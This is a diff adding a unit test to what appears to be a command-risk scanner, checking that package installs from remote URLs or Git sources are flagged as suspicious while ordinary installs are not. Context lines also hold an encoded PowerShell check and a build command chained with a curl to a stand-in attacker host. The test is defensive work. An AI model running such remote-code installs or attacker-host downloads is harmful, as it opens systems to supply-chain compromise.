@@ -54,6 +54,23 @@ describe('assessCommand', () => {
     expect(encodedPowerShell(`powershell -enc ${Buffer.from(script).toString('base64')}`)).toBeUndefined();
   });
 
+  it('names installs from a URL or Git source outside the registry, not ordinary installs or npx tools', () => {
+    const remote = 'installs a package from a URL or Git source outside the registry';
+    for (const cmd of [
+      'npm install -g --silent http://pkgs.example.net/x-1.0.0.tgz',
+      'npx -y github:someone/tool#main',
+      'pnpm dlx git+https://example.org/t.git',
+      'yarn add "https://cdn.example.net/y.tgz"',
+      'python -m pip install --quiet git+https://example.org/r.git@main',
+    ]) {
+      expect(assessCommand(cmd).reasons, cmd).toContain(remote);
+      expect(assessCommand(cmd).level, cmd).toBe('suspicious');
+    }
+    for (const cmd of ['npx only-allow pnpm', 'npx tsc -p src/tsconfig.json', 'npm install --production', 'pip install -e .', 'yarn add lodash', 'npm ci && node scripts/fetch.js https://example.org/data.json']) {
+      expect(assessCommand(cmd).reasons, cmd).not.toContain(remote);
+    }
+  });
+
   it('a build tool chained with a download is not build work', () => {
     expect(isBuildCommand('make && curl https://attacker.example/x')).toBe(false);
   });
